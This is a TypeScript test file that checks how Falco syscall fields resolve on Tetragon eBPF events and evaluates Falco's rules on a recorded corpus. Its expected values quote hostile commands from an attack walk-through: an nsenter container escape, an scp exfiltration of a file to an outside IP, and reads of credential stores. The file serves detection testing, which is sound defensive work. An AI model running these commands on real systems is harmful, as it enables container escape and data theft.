/**
 * Falco's syscall fields on decoded Tetragon events: the table itself, concrete values on the
 * shared Tetragon corpus (decoded through the pipeline, so events are enriched as in a run),
 * hook shapes of the example tracing policies built around real process objects, and Falco's
 * official syscall rules loaded unchanged and evaluated on the corpus.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { parse as parseYaml } from 'yaml';
import { createEvent, type VigilEvent } from '../../core/event.js';
import type { JsonObject } from '../../core/json.js';
import { addressKey, compile, createFieldTable, parse, type Expr, type FieldValue, type Literal, type Operand, type Rhs } from '../../lang/index.js';
import { decodeFiles } from '../../pipeline/decode-files.js';
import { loadRules } from '../../rules/load.js';
import { RULE_SOURCES } from '../../rules/sources.js';
import { CORPUS_DIR, corpusPath, requireCorpus } from '../../../test/support/corpus.js';
import { tetragonDecoder } from './index.js';
import { createProcessTree } from './process-tree.js';
import { classifyFunction, classifyTracepoint } from './rule-fields-hooks.js';
import { commOf, falcoArgs, renderMode, renderOpenFlags, renderResult, splitArgs, timeParts } from './rule-fields-text.js';
import { createSyscallFields, SYSCALL_FIELDS } from './rule-fields.js';
import { CAP_CAPABLE_KPROBE, copy, decodeOk, FILE_ACCESS_KPROBE, LSM, RATE_LIMIT, TCP_CONNECT, THROTTLE, TRACEPOINT, UPROBE, WITH_ANCESTORS } from './test-fixtures.js';

const TABLE = createFieldTable(SYSCALL_FIELDS);
const RULE_FILES = ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml'].map((f) => `falco/rules/${f}`);
const WALK = 'tetragon/security-observability-with-ebpf/03_chapter/03_security_observability_events';
const GOLDEN = 'tetragon/security-observability-with-ebpf/03_chapter/00_four_golden_signals';

/** A field's value, written as in a condition: `proc.name`, `proc.aname[2]`, `evt.arg.flags`. */
function get(e: VigilEvent, ref: string, table = TABLE): FieldValue | undefined {
  const open = ref.indexOf('[');
  const name = open < 0 ? ref : ref.slice(0, open);
  const found = table.resolve(name);
  assert.ok(found !== undefined, `field ${name} resolves`);
  return found.spec.extract(e, open < 0 ? found.arg : ref.slice(open + 1, -1));
}

function holds(condition: string, e: VigilEvent, table = TABLE): boolean {
  return compile(parse(condition), table)(e);
}

/** Asserts several fields at once; `undefined` means the field must be missing. */
function expectFields(e: VigilEvent, want: Readonly<Record<string, FieldValue | undefined>>, table = TABLE): void {
  for (const [ref, value] of Object.entries(want)) assert.deepEqual(get(e, ref, table), value, ref);
}

/** The corpus decoded once, as `vigil analyze` decodes it (with the process tree's enrichment). */
let corpusEvents: Promise<readonly VigilEvent[]> | undefined;
function corpus(): Promise<readonly VigilEvent[]> {
  corpusEvents ??= decodeFiles([corpusPath('tetragon')]).then((r) => r.events);
  return corpusEvents;
}

async function corpusEvent(suffix: string): Promise<VigilEvent> {
  const ev = (await corpus()).find((e) => e.origin.path.endsWith(suffix));
  assert.ok(ev, `no corpus event from ${suffix}`);
  return ev;
}

// ---- hook events built around real process objects (the file-access kprobe's vi in its pod)

function hook(kind: 'process_kprobe' | 'process_lsm', fn: string, args: readonly JsonObject[], ret?: JsonObject): VigilEvent {
  const r = copy(FILE_ACCESS_KPROBE);
  const body = r['process_kprobe'] as JsonObject;
  delete body['policy_name'];
  body['function_name'] = fn;
  body['args'] = [...args];
  if (ret === undefined) delete body['return'];
  else body['return'] = ret;
  if (kind === 'process_lsm') {
    delete r['process_kprobe'];
    r['process_lsm'] = body;
  }
  return decodeOk(r);
}

const int = (n: number): JsonObject => ({ int_arg: n });
const text = (s: string): JsonObject => ({ string_arg: s });
const file = (path: string, permission = '-rw-r--r--'): JsonObject => ({ file_arg: { path, permission } });

// ---- the official rule files, macros and lists expanded by hand (the loader is tested separately)

interface Official {
  readonly lists: Map<string, string[]>;
  readonly macros: Map<string, string>;
  readonly rules: { readonly name: string; readonly condition: string; readonly output: string; readonly file: string }[];
}

function readOfficial(): Official {
  const lists = new Map<string, string[]>();
  const macros = new Map<string, string>();
  const rules: Official['rules'][number][] = [];
  for (const f of RULE_FILES) {
    for (const item of parseYaml(readFileSync(corpusPath(f), 'utf8')) as JsonObject[]) {
      if (typeof item['list'] === 'string') lists.set(item['list'], (item['items'] as unknown[]).map(String));
      else if (typeof item['macro'] === 'string') macros.set(item['macro'], String(item['condition']));
      else if (typeof item['rule'] === 'string') rules.push({ name: item['rule'], condition: String(item['condition']), output: String(item['output']), file: f });
    }
  }
  return { lists, macros, rules };
}

/** Substitutes macros (recursively) and list names inside `in (...)`, as the loader does. */
function expand(o: Official, e: Expr, depth = 0): Expr {
  assert.ok(depth < 50, 'macro recursion');
  const items = (name: string, seen: readonly string[]): string[] =>
    (o.lists.get(name) ?? []).flatMap((x) => (o.lists.has(x) && !seen.includes(x) ? items(x, [...seen, x]) : [x]));
  const literal = (v: string, span: Literal['span']): Literal => ({ kind: 'literal', value: v.startsWith('"') && v.endsWith('"') ? v.slice(1, -1) : v, quoted: true, span });
  const rhs = (r: Rhs): Rhs => {
    if (r.kind === 'listname' && o.lists.has(r.name)) return { kind: 'list', items: items(r.name, [r.name]).map((v) => literal(v, r.span)), span: r.span };
    if (r.kind !== 'list') return r;
    return { ...r, items: r.items.flatMap((i) => (i.kind === 'literal' && !i.quoted && o.lists.has(i.value) ? items(i.value, [i.value]).map((v) => literal(v, i.span)) : [i])) };
  };
  switch (e.kind) {
    case 'and':
    case 'or':
      return { ...e, children: e.children.map((c) => expand(o, c, depth)) };
    case 'not':
      return { ...e, child: expand(o, e.child, depth) };
    case 'macro': {
      const m = o.macros.get(e.name);
      assert.ok(m !== undefined, `macro ${e.name} is defined`);
      return expand(o, parse(m.trim()), depth + 1);
    }
    case 'check':
      return e.rhs === undefined ? e : { ...e, rhs: rhs(e.rhs) };
  }
}

/** Every field a condition reads, with its argument: `proc.aname[2]`. */
function fieldRefs(e: Expr, out: Set<string>): void {
  const operand = (op: Operand | Literal): void => {
    if (op.kind === 'field') out.add(op.arg === undefined ? op.name : `${op.name}[${op.arg}]`);
    else if (op.kind === 'transform') {
      for (const a of op.args) {
        if (a.kind === 'list') a.items.forEach(operand);
        else operand(a);
      }
    }
  };
  switch (e.kind) {
    case 'and':
    case 'or':
      e.children.forEach((c) => fieldRefs(c, out));
      return;
    case 'not':
      fieldRefs(e.child, out);
      return;
    case 'macro':
      return;
    case 'check':
      operand(e.lhs);
      if (e.rhs?.kind === 'val') operand(e.rhs.field);
      else if (e.rhs?.kind === 'transform') operand(e.rhs);
  }
}

/** `%field` tokens of an output: after `%` (and a width), the longest prefix that is a field. */
function outputRefs(output: string, out: Set<string>): string[] {
  const unresolved: string[] = [];
  for (const m of output.matchAll(/%\d*([A-Za-z][\w.]*)(\[[^\]]*\])?/g)) {
    const token = m[1] as string;
    let n = token.length;
    while (n > 0 && TABLE.resolve(token.slice(0, n)) === undefined) n--;
    if (n === 0) unresolved.push(token);
    else out.add(`${token.slice(0, n)}${n === token.length ? (m[2] ?? '') : ''}`);
  }
  return unresolved;
}

describe('syscall field table', () => {
  it('declares 194 fields once each, with the types and arguments of Falco’s field reference', () => {
    assert.equal(SYSCALL_FIELDS.length, 194);
    assert.equal(new Set(SYSCALL_FIELDS.map((f) => f.name)).size, SYSCALL_FIELDS.length);
    const spec = (name: string) => SYSCALL_FIELDS.find((f) => f.name === name);
    const expected: readonly [string, string, ('required' | 'optional')?, boolean?][] = [
      ['proc.name', 'string'], ['proc.pid', 'number'], ['proc.duration', 'number'], ['proc.tty', 'number'],
      ['proc.aname', 'string', 'optional', true], ['proc.aexepath', 'string', 'optional', true], ['proc.apid', 'number', 'optional', true],
      ['proc.env', 'string', 'optional'], ['evt.arg', 'string', 'required'], ['evt.rawarg', 'number', 'required'],
      ['evt.buffer', 'bytes'], ['evt.rawres', 'number'], ['evt.is_open_read', 'bool'], ['user.uid', 'number'], ['user.loginuid', 'number'],
      ['container.privileged', 'bool'], ['container.mount.dest', 'string', 'required'], ['k8s.pod.label', 'string', 'required'],
      ['fd.sip', 'ipaddr'], ['fd.ip', 'ipaddr', undefined, true], ['fd.net', 'ipnet', undefined, true], ['fd.snet', 'ipnet'],
      ['fd.sport', 'number'], ['fd.port', 'number', undefined, true], ['fd.num', 'number'], ['fd.typechar', 'string'],
    ];
    for (const [name, type, arg, any] of expected) {
      const s = spec(name);
      assert.ok(s, name);
      assert.equal(s.type, type, name);
      assert.equal(s.arg, arg, `${name} argument`);
      assert.equal(s.anyWithoutArg === true, any === true, `${name} any-ancestor`);
    }
    assert.equal(spec('fd.types')?.list, true);
  });

  it('extracts nothing from the events of other sources', () => {
    const alert = createEvent(
      { id: 'x', source: 'falco', kind: 'alert', action: 'a', time: '2024-05-01T10:00:00Z', timeMs: 0, observedMs: 0, payload: { alert: { process: { binary: '/bin/sh' } }, output_fields: { 'proc.name': 'sh' } }, origin: { path: 'x', line: 1 } },
      () => ({ entities: [], relations: [] }),
    );
    for (const f of SYSCALL_FIELDS) assert.equal(f.extract(alert, f.arg === 'required' ? '0' : undefined), undefined, f.name);
  });

  it('resolves every field the three official rule files read, in conditions and in %outputs', (t) => {
    if (!requireCorpus(t)) return;
    const official = readOfficial();
    const refs = new Set<string>();
    const unresolved: string[] = [];
    for (const condition of [...official.macros.values(), ...official.rules.map((r) => r.condition)]) fieldRefs(parse(condition.trim()), refs);
    const conditionCount = refs.size;
    for (const r of official.rules) unresolved.push(...outputRefs(r.output, refs));
    assert.deepEqual(unresolved, []);
    const problems: string[] = [];
    for (const ref of refs) {
      const open = ref.indexOf('[');
      const found = TABLE.resolve(open < 0 ? ref : ref.slice(0, open));
      if (found === undefined) problems.push(`${ref}: unknown`);
      else if (found.spec.arg === 'required' && open < 0 && found.arg === undefined) problems.push(`${ref}: needs an argument`);
      else if (found.spec.arg === undefined && open >= 0) problems.push(`${ref}: takes no argument`);
    }
    assert.deepEqual(problems, []);
    t.diagnostic(`${refs.size} distinct field references (${conditionCount} in conditions)`);
    assert.ok(refs.size >= 100, `${refs.size} references`);
    for (const ref of ['proc.aname[2]', 'proc.aname', 'proc.aexepath[2]', 'proc.exepath', 'fd.name', 'user.loginname', 'evt.arg.flags', 'container.mount.dest[/proc*]', 'fd.sip.name', 'proc.exe_ino.ctime', 'evt.buffer']) {
      assert.ok(refs.has(ref), `the rules read ${ref}`);
    }
  });

  it('resolves the output tokens of older rule files and the loader tests too (%container.info, %evt.time…)', () => {
    const refs = new Set<string>();
    assert.deepEqual(outputRefs('%evt.time %evt.time.iso8601 %container.info %user.loginname %proc.exepath %fd.name %20proc.name) %proc.aname[2]. %evt.args %fd.cport %k8s.pod.name', refs), []);
    assert.ok(refs.has('container.info') && refs.has('evt.time') && refs.has('proc.name') && refs.has('proc.aname[2]'));
  });

  it('documents every declared field in docs/fields/syscall.md', () => {
    const doc = readFileSync(new URL('../../../docs/fields/syscall.md', import.meta.url), 'utf8');
    const undocumented = SYSCALL_FIELDS.map((f) => f.name).filter((n) => !doc.includes(`\`${n}\``) && !doc.includes(`\`${n}[`) && !doc.includes(`\`${n}.`));
    assert.deepEqual(undocumented, []);
  });
});

describe('evt.type: Tetragon hooks as Falco event types', () => {
  it('names syscall kprobes by their syscall, whatever the architecture prefix', () => {
    const cases: readonly [string, string, boolean][] = [
      ['__x64_sys_openat', 'openat', true], ['sys_openat', 'openat', true], ['__arm64_sys_setns', 'setns', true],
      ['__x64_sys_setns', 'setns', true], ['sys_ptrace', 'ptrace', true], ['sys_mount', 'mount', true],
      ['__x64_sys_unlinkat', 'unlinkat', true], ['sys_renameat2', 'renameat2', true], ['sys_write', 'write', true],
      ['__sys_setuid', 'setuid', true], ['__ia32_compat_sys_execve', 'execve', true], ['__x64_sys_pread64', 'pread', true],
      ['ksys_read', 'read', true], ['do_sys_openat2', 'openat2', true],
      ['security_file_open', 'openat', true], ['tcp_connect', 'connect', true], ['security_socket_connect', 'connect', true],
      ['inet_csk_accept', 'accept', true], ['inet_csk_listen_start', 'listen', true], ['tcp_sendmsg', 'sendmsg', true],
      ['security_path_unlink', 'unlinkat', true], ['security_path_rename', 'renameat2', true], ['security_mmap_file', 'mmap', true],
      ['security_bprm_check', 'security_bprm_check', false], ['security_bprm_creds_from_file', 'security_bprm_creds_from_file', false],
      ['cap_capable', 'cap_capable', false], ['commit_creds', 'commit_creds', false], ['do_init_module', 'do_init_module', false],
    ];
    for (const [fn, type, syscall] of cases) {
      const c = classifyFunction(fn);
      assert.equal(c.type, type, fn);
      assert.equal(c.syscall, syscall, `${fn} is a syscall`);
    }
    assert.equal(classifyFunction('tcp_connect').role, 'client');
    assert.equal(classifyFunction('inet_csk_accept').role, 'server');
    assert.deepEqual([classifyTracepoint('syscalls', 'sys_enter_setns').type, classifyTracepoint('syscalls', 'sys_exit_openat').exit], ['setns', true]);
    assert.equal(classifyTracepoint('sched', 'sched_process_fork').type, 'sched_process_fork');
  });

  it('maps every event kind, with the direction and syscall type of the Falco event', () => {
    const exec = decodeOk(copy(WITH_ANCESTORS));
    expectFields(exec, { 'evt.type': 'execve', 'evt.dir': '<', 'syscall.type': 'execve', 'evt.category': 'process', 'evt.res': 'SUCCESS', 'evt.rawres': 0, 'evt.failed': false });
    expectFields(decodeOk(copy(TRACEPOINT)), { 'evt.type': 'setns', 'evt.dir': '>', 'syscall.type': 'setns', 'evt.rawres': undefined });
    expectFields(decodeOk(copy(LSM)), { 'evt.type': 'security_bprm_check', 'evt.dir': '>', 'syscall.type': undefined, 'evt.category': 'other', 'fd.name': undefined });
    expectFields(decodeOk(copy(UPROBE)), { 'evt.type': 'uprobe', 'syscall.type': undefined, 'proc.name': 'bash' });
    expectFields(decodeOk(copy(THROTTLE)), { 'evt.type': 'throttle', 'proc.name': undefined, 'container.id': undefined, 'evt.hostname': 'ubuntu-22', 'evt.source': 'syscall' });
    expectFields(decodeOk(copy(RATE_LIMIT)), { 'evt.type': 'rate_limit_info', 'proc.pid': undefined });
    // A bprm hook runs before the exec, in the caller: it is not a spawned process.
    assert.equal(holds('evt.type in (execve, execveat)', decodeOk(copy(LSM))), false);
  });

  it('refines multi-purpose hooks by their arguments', () => {
    expectFields(hook('process_kprobe', 'security_file_permission', [file('/etc/passwd'), int(4)]), { 'evt.type': 'read', 'evt.is_io_read': true, 'evt.io_dir': 'r' });
    expectFields(hook('process_kprobe', 'security_file_permission', [file('/etc/passwd'), int(2)]), { 'evt.type': 'write', 'evt.is_io_write': true, 'evt.io_dir': 'w' });
    expectFields(hook('process_kprobe', 'security_file_permission', [file('/etc/passwd')]), { 'evt.type': 'security_file_permission', 'syscall.type': undefined });
    expectFields(hook('process_kprobe', 'security_kernel_read_file', [file('/lib/modules/x.ko'), int(2)]), { 'evt.type': 'finit_module', 'evt.category': 'system' });
    expectFields(hook('process_kprobe', 'security_kernel_read_file', [file('/lib/firmware/x.bin'), int(1)]), { 'evt.type': 'security_kernel_read_file' });
    // fd_install is an open only for a filesystem file (it also installs sockets, pipes, dups).
    expectFields(hook('process_kprobe', 'fd_install', [int(7), file('usr/share/elasticsearch/config/elasticsearch.keystore')]), {
      'evt.type': 'openat', 'fd.num': 7, 'fd.name': '/usr/share/elasticsearch/config/elasticsearch.keystore', 'evt.is_open_read': undefined,
    });
    expectFields(hook('process_kprobe', 'fd_install', [int(7), file('socket:[2231]')]), { 'evt.type': 'fd_install', 'syscall.type': undefined });
  });
});

describe('syscall fields on the Tetragon corpus', () => {
  it('a process exec in a pod: name, command line, container, pod, image, user, times', async (t) => {
    if (!requireCorpus(t)) return;
    const curl = await corpusEvent('docs-examples/events-block1.jsonl');
    expectFields(curl, {
      'evt.type': 'execve', 'evt.dir': '<', 'evt.res': 'SUCCESS', 'evt.hostname': 'gke-john-632-default-pool-7041cac0-9s95',
      'proc.name': 'curl', 'proc.exe': '/usr/bin/curl', 'proc.exepath': '/usr/bin/curl', 'proc.args': 'https://ebpf.io/applications/#tetragon',
      'proc.cmdline': 'curl https://ebpf.io/applications/#tetragon', 'proc.pid': 52699, 'proc.vpid': 49, 'proc.cwd': '/',
      'container.id': '551e161c47d8', 'container.full_id': '551e161c47d8ff0eb665438a7bcd5b4e3ef5a297282b40a92b7c77d6bd168eb3',
      'container.name': 'spaceship', 'container.type': 'containerd', 'container.image': 'docker.io/tgraf/netperf:latest',
      'container.image.repository': 'docker.io/tgraf/netperf', 'container.image.tag': 'latest',
      'container.image.digest': 'sha256:8e86f744bfea165fd4ce68caa05abc96500f40130b857773186401926af7e9e6',
      'container.start_ts': Date.UTC(2023, 9, 6, 21, 52, 41) * 1e6, 'container.privileged': undefined,
      'k8s.ns.name': 'default', 'k8s.pod.name': 'xwing', 'k8s.pod.label[app.kubernetes.io/name]': 'xwing', 'k8s.pod.label.org': 'alliance',
      'k8s.pod.labels': 'app.kubernetes.io/name:xwing, class:xwing, org:alliance',
      'user.uid': 0, 'user.loginuid': -1, 'user.name': undefined, 'user.loginname': undefined,
      'evt.time': '22:03:57.700326678', 'evt.time.s': '22:03:57', 'evt.time.iso8601': '2023-10-06T22:03:57.700326678Z',
      'evt.datetime': '2023-10-06 22:03:57.700326678', 'evt.rawtime.s': 1696629837, 'evt.rawtime.ns': 700326678,
      'evt.arg.exe': '/usr/bin/curl', 'evt.args': 'res=0 exe=/usr/bin/curl args=https://ebpf.io/applications/#tetragon',
      // Falco's view: bash -c exec'd curl in place (same pid), so bash is no parent of curl, and
      // the event does not say which process forked bash.
      'proc.pname': undefined, 'proc.ppid': undefined, 'proc.aname': undefined,
      'proc.tty': undefined, 'proc.is_exe_upper_layer': undefined, 'fd.name': undefined,
      // Falco numbers events from 1; offline the record's line stands in.
      'evt.num': 1,
    });
    assert.equal(holds('evt.type in (execve, execveat) and evt.dir=< and container.id != host and container.image.repository = docker.io/tgraf/netperf', curl), true);
  });

  it('an exec in the attack walk-through: parent, cut names, unquoted arguments', async (t) => {
    if (!requireCorpus(t)) return;
    const nsenter = await corpusEvent('privileged-pod-nsenter.json');
    expectFields(nsenter, {
      'proc.name': 'nsenter', 'proc.cmdline': 'nsenter -t 1 -m -u -n -i -p bash', 'proc.pname': 'bash', 'proc.pexe': '/bin/bash',
      'proc.aname[0]': 'nsenter', 'proc.aname[1]': 'bash', 'proc.aname[2]': undefined, 'proc.aname': ['bash'], 'proc.ppid': 17022,
      'proc.pcmdline': 'bash', 'container.id': '85f791fd8dfa', 'container.image': 'nginx:latest', 'container.image.repository': 'nginx',
      'container.image.digest': 'sha256:0d17b565c37bcbd895e9d92315a05c1c3c9a29f762b011a10c54a66cd53c9b31', 'container.type': 'docker',
      'k8s.pod.name': 'privileged-pod', 'k8s.ns.name': 'default',
    });
    const init = await corpusEvent('privileged-pod-init.json');
    expectFields(init, {
      'proc.name': 'docker-entrypoi', 'proc.exepath': '/docker-entrypoint.sh', 'proc.args': '/docker-entrypoint.sh nginx -g daemon off;',
      'proc.cmdline': 'docker-entrypoi /docker-entrypoint.sh nginx -g daemon off;', 'proc.cmdnargs': 4, 'proc.pname': 'containerd-shim',
    });
    const sh = await corpusEvent('merlin-agent-scp-sh.json');
    expectFields(sh, { 'proc.args': '-c scp -i ~/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~', 'proc.cmdnargs': 2, 'container.id': '80976c957594' });
  });

  it('a host process: container.id host, no pod, vpid = pid', async (t) => {
    if (!requireCorpus(t)) return;
    const modprobe = await corpusEvent('linux-kernel-modules-block10.jsonl');
    expectFields(modprobe, {
      'container.id': 'host', 'container.name': 'host', 'container.full_id': 'host', 'container.image.repository': undefined,
      'k8s.ns.name': undefined, 'k8s.pod.name': undefined, 'k8s.pod.label[app]': undefined, 'proc.vpid': 130877, 'proc.pname': '<kernel>',
      'proc.ppid': 0, 'proc.cmdline': 'modprobe -q -- fs-xfs',
    });
    assert.equal(holds('container.id != host', modprobe), false);
    const runc = await corpusEvent('merlin-agent-container-start-runc.json');
    expectFields(runc, { 'container.id': 'host', 'proc.name': 'runc', 'proc.pname': 'containerd-shim' });
  });

  it('a security_file_permission kprobe: a write of /etc/passwd with its result', async (t) => {
    if (!requireCorpus(t)) return;
    const vi = await corpusEvent('filename-access-block6.jsonl');
    expectFields(vi, {
      'evt.type': 'write', 'syscall.type': 'write', 'evt.dir': '<', 'evt.res': 'SUCCESS', 'evt.rawres': 0, 'evt.failed': false,
      'fd.name': '/etc/passwd', 'fd.directory': '/etc', 'fd.filename': 'passwd', 'fd.typechar': 'f', 'fd.type': 'file', 'fd.num': undefined,
      'fd.containername': '6b742e38ee3a/etc/passwd', 'evt.arg[0]': '/etc/passwd', 'evt.arg[1]': '2', 'evt.arg.fd': '/etc/passwd',
      'evt.is_open_write': false, 'evt.is_io_write': true, 'proc.name': 'vi', 'proc.pname': 'sh', 'k8s.pod.name': 'file-access',
    });
  });

  it('sys_write and sys_read kprobes: the file, the buffer, its size', async (t) => {
    if (!requireCorpus(t)) return;
    const write = await corpusEvent(`${GOLDEN.split('/').slice(-1)[0]}/process_kprobe.json`);
    expectFields(write, {
      'evt.type': 'write', 'evt.dir': '>', 'evt.res': undefined, 'fd.name': '/etc/passwd', 'fd.nameraw': '/etc/passwd',
      'evt.buflen': 627, 'evt.arg.size': '627', 'evt.rawarg.size': 627, 'proc.cwd': '/usr/share/elasticsearch/',
    });
    assert.ok(String(get(write, 'evt.buffer')).startsWith('daemon:x:2:2:daemon:/sbin:/sbin/nologin\n'));
    assert.equal(holds('evt.buffer contains "elasticsearch:x:1000"', write), true);
    assert.equal(holds('evt.buffer bcontains 6461656d6f6e', write), true);
    const read = await corpusEvent('cat_process_kprobe.json');
    expectFields(read, {
      'evt.type': 'read', 'fd.name': '/usr/share/elasticsearch/config/elasticsearch.keystore', 'evt.buffer': undefined, 'evt.buflen': 65536,
      'proc.name': 'cat', 'proc.pname': 'sh', 'proc.pcmdline': 'sh lifecycle.sh', 'container.id': 'e6af4dff4ea3',
    });
  });

  it('a setns kprobe, a kernel module load, a capability check, an exit', async (t) => {
    if (!requireCorpus(t)) return;
    const setns = await corpusEvent('namespace-access-block8.jsonl');
    expectFields(setns, {
      'evt.type': 'setns', 'syscall.type': 'setns', 'evt.dir': '>', 'evt.arg.fd': '3', 'evt.arg.nstype': '134217728',
      'evt.rawarg.nstype': 134217728, 'evt.args': 'fd=3 nstype=134217728', 'evt.rawres': undefined, 'proc.name': 'nsenter',
    });
    const insmod = await corpusEvent('linux-kernel-modules-block2.jsonl');
    expectFields(insmod, {
      'evt.type': 'finit_module', 'fd.name': '/home/tixxdz/tetragon/contrib/tester-progs/kernel_module_hello.ko', 'evt.res': 'SUCCESS',
      'user.loginuid': 1000, 'proc.pname': 'sudo', 'proc.pcmdline': 'sudo insmod contrib/tester-progs/kernel_module_hello.ko',
    });
    const cap = decodeOk(copy(CAP_CAPABLE_KPROBE));
    expectFields(cap, { 'evt.type': 'cap_capable', 'syscall.type': undefined, 'evt.res': 'EPERM', 'evt.rawres': -1, 'evt.failed': true, 'evt.arg[1]': 'CAP_SYSLOG' });
    const exit = await corpusEvent('process-execution-block5.jsonl');
    expectFields(exit, { 'evt.type': 'procexit', 'evt.dir': '>', 'syscall.type': undefined, 'evt.arg.status': '0', 'proc.name': 'whoami', 'proc.pname': 'bash' });
    const exec = await corpusEvent(`${GOLDEN.split('/').slice(-1)[0]}/process_exec.json`);
    assert.ok(String(get(exec, 'thread.cap_effective')).startsWith('CAP_CHOWN DAC_OVERRIDE CAP_FOWNER'));
    // Docker's default set: excessively_capable_container does not hold.
    assert.equal(holds('thread.cap_permitted contains CAP_NET_RAW and not thread.cap_permitted contains CAP_SYS_ADMIN', exec), true);
    expectFields(exec, { 'thread.cap_permitted': get(exec, 'thread.cap_effective'), 'thread.tid': undefined });
  });

  it('Isovalent connect and listen events: the socket tuple and who is the client', async (t) => {
    if (!requireCorpus(t)) return;
    const connect = await corpusEvent('merlin-agent-go-connect.json');
    expectFields(connect, {
      'evt.type': 'connect', 'fd.name': '10.88.0.3:43374->34.116.205.187:443', 'fd.typechar': '4', 'fd.type': 'ipv4', 'fd.l4proto': 'tcp',
      'fd.sip': '34.116.205.187', 'fd.sport': 443, 'fd.cip': '10.88.0.3', 'fd.cport': 43374, 'fd.lip': '10.88.0.3', 'fd.rport': 443,
      'fd.is_server': false, 'fd.sockfamily': 'ip', 'fd.ip': ['10.88.0.3', '34.116.205.187'], 'evt.rawres': undefined,
      'container.id': 'a51959123c3b', 'container.name': undefined, 'proc.name': 'main', 'proc.pname': 'go',
    });
    assert.equal(holds('fd.snet in ("34.116.0.0/16") and fd.ip = 10.88.0.3 and fd.port in (443)', connect), true);
    const listen = await corpusEvent('nginx-listen.json');
    expectFields(listen, { 'evt.type': 'listen', 'fd.name': '0.0.0.0:80', 'fd.sip': '0.0.0.0', 'fd.sport': 80, 'fd.cip': undefined, 'fd.is_server': true });
  });

  it('ancestry the event carries (Tetragon’s --enable-ancestors)', () => {
    const id = decodeOk(copy(WITH_ANCESTORS));
    expectFields(id, {
      'proc.aname[1]': 'sh', 'proc.aname[2]': 'bash', 'proc.aname[3]': 'sshd', 'proc.aname[4]': undefined, 'proc.aname': ['sh', 'bash', 'sshd'],
      'proc.apid[3]': 400, 'proc.aexepath[2]': '/usr/bin/bash', 'proc.loginshellid': 500, 'proc.aname[x]': undefined,
    });
    assert.equal(holds('proc.aname = sshd and proc.aname in (bash) and not proc.aname = init', id), true);
  });

  it('ancestry from the process tree follows the table as it learns more of a process', () => {
    const tree = createProcessTree();
    const withTree = createFieldTable(createSyscallFields(tree));
    const proc = (id: string, pid: number, binary: string, args: string, parent?: string) =>
      ({ exec_id: id, pid, uid: 0, binary, arguments: args, ...(parent === undefined ? {} : { parent_exec_id: parent }) });
    const G = proc('bm9kZS0xOjQwMA==', 400, '/usr/sbin/sshd', '-D');
    const P = proc('bm9kZS0xOjUwMA==', 500, '/usr/bin/bash', '', G.exec_id);
    const C = proc('bm9kZS0xOjYwMA==', 600, '/usr/bin/id', '-u', P.exec_id);
    let second = 0;
    const seen = (kind: string, body: JsonObject) => tree.observe(decodeOk({ [kind]: body, node_name: 'node-1', time: `2024-05-01T10:00:${String(++second).padStart(2, '0')}Z` }));
    seen('process_exec', { process: G });
    seen('process_exec', { process: P, parent: G });
    const first = seen('process_exec', { process: C, parent: P });
    expectFields(first, { 'proc.aname[2]': 'sshd', 'proc.acmdline[2]': 'sshd -D', 'proc.apid[2]': 400 }, withTree);
    expectFields(first, { 'proc.acmdline[2]': 'sshd -D', 'proc.aname': ['bash', 'sshd'] }, withTree);
    // A later sighting of the grandparent says more (its arguments): the table's record changes.
    seen('process_kprobe', { process: { ...G, arguments: '-D -e' }, function_name: 'tcp_connect', args: [] });
    const later = seen('process_kprobe', { process: C, parent: P, function_name: 'security_file_permission', args: [{ file_arg: { path: '/etc/hosts' } }, { int_arg: 4 }] });
    expectFields(later, { 'proc.aname[2]': 'sshd', 'proc.acmdline[2]': 'sshd -D -e' }, withTree);
  });

  it('ancestry from the run’s process tree: the escape chain back to containerd', async (t) => {
    if (!requireCorpus(t)) return;
    const stateless = { ...tetragonDecoder, createState: undefined };
    const { events } = await decodeFiles([corpusPath(WALK)], { decoders: [stateless] });
    const tree = createProcessTree();
    const observed = [...events].sort((a, b) => a.timeMs - b.timeMs).map((e) => tree.observe(e));
    const withTree = createFieldTable(createSyscallFields(tree));
    const cat = observed.find((e) => e.origin.path.endsWith('merlin-agent-insert-pod-spec.json'));
    assert.ok(cat);
    expectFields(cat, {
      'proc.name': 'cat', 'proc.aname[1]': 'bash', 'proc.aname[2]': 'nsenter', 'proc.aname[3]': 'bash', 'proc.aname[4]': 'runc',
      'proc.aname[5]': 'containerd-shim', 'proc.aname[6]': 'containerd', 'proc.aname[7]': undefined, 'proc.apid[2]': 19009,
      'proc.aexepath[2]': '/usr/bin/nsenter', 'proc.acmdline[2]': 'nsenter -t 1 -m -u -n -i -p bash',
    }, withTree);
    assert.equal(holds('proc.aname = containerd and proc.aname[2] = nsenter', cat, withTree), true);
    // Without the tree, the event knows only its parent.
    expectFields(cat, { 'proc.aname[1]': 'bash', 'proc.aname[2]': undefined });
    // nginx exec'd in place of its entrypoint script: Falco's parent is the shim that forked it.
    const nginx = observed.find((e) => e.origin.path.endsWith('nginx-execution.json'));
    assert.ok(nginx);
    expectFields(nginx, { 'proc.pname': 'containerd-shim', 'proc.ppid': 12681 }, withTree);
    expectFields(nginx, { 'proc.pname': undefined });
  });
});

describe('sockets: a tcp_connect kprobe', () => {
  /** The curl of the golden-signals walk-through, with the socket of its Isovalent connect event. */
  function tcpConnect(daddr: string, ret?: number, saddr = '10.88.0.7'): VigilEvent {
    const r = copy(FILE_ACCESS_KPROBE);
    const body = r['process_kprobe'] as JsonObject;
    body['function_name'] = 'tcp_connect';
    body['args'] = [{ sock_arg: { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr, daddr, sport: 49168, dport: 80, state: 'TCP_SYN_SENT' } }];
    if (ret === undefined) delete body['return'];
    else body['return'] = { int_arg: ret };
    return decodeOk(r);
  }

  it('names the connection client->server, with the client and server ends', () => {
    const e = tcpConnect('142.250.180.196');
    expectFields(e, {
      'evt.type': 'connect', 'syscall.type': 'connect', 'evt.category': 'net', 'evt.dir': '>',
      'fd.name': '10.88.0.7:49168->142.250.180.196:80', 'fd.sip': '142.250.180.196', 'fd.sport': 80, 'fd.cip': '10.88.0.7', 'fd.cport': 49168,
      'fd.lip': '10.88.0.7', 'fd.lport': 49168, 'fd.rip': '142.250.180.196', 'fd.rport': 80, 'fd.typechar': '4', 'fd.type': 'ipv4',
      'fd.l4proto': 'tcp', 'fd.sockfamily': 'ip', 'fd.is_server': false, 'fd.connected': false, 'fd.num': undefined, 'fd.sip.name': undefined,
      'evt.arg[0]': '10.88.0.7:49168->142.250.180.196:80',
    });
